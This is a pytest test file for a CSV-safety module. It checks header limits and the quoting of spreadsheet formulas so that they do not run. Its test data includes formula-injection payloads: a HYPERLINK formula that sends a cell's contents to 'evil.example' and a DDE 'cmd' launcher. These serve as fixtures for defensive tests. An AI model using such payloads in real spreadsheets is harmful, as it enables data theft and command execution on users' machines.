"""The CSV head check, and formula neutralisation with its exact inverse."""

import pytest

from twoway.safefiles import FileRefused, check_csv_head, spreadsheet_safe, unquote_spreadsheet_safe
from twoway.safefiles.text import HEAD_BYTES


def test_a_first_line_with_no_break_in_256_kb_is_refused():
    with pytest.raises(FileRefused, match="no line break"):
        check_csv_head(b"a," * HEAD_BYTES, max_columns=100)


def test_a_header_wider_than_the_limit_is_refused_naming_both_counts():
    with pytest.raises(FileRefused, match="3,000 columns; twoway reads at most 2,000"):
        check_csv_head(b",".join([b"c"] * 3000) + b"\nx\n", max_columns=2000)


def test_a_normal_header_gives_its_width():
    assert check_csv_head(b'respondent,lens,"unit, path",item,value\r\n1,2', max_columns=10) == 5


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
     "\t=1", "\r=1", "＝1+1"],
)  # fmt: skip
def test_text_a_spreadsheet_would_run_gets_a_quote_and_reads_back_unchanged(text):
    safe = spreadsheet_safe(text)
    assert safe == "'" + text
    assert unquote_spreadsheet_safe(safe) == text


@pytest.mark.parametrize(
    "value", ["Ana", "-5", "+351", "3.5", "-0,5", "", 42, 4.5, None, "'quoted"]
)
def test_plain_text_and_numbers_are_left_alone(value):
    assert spreadsheet_safe(value) == value
    if isinstance(value, str):
        assert unquote_spreadsheet_safe(value) == value
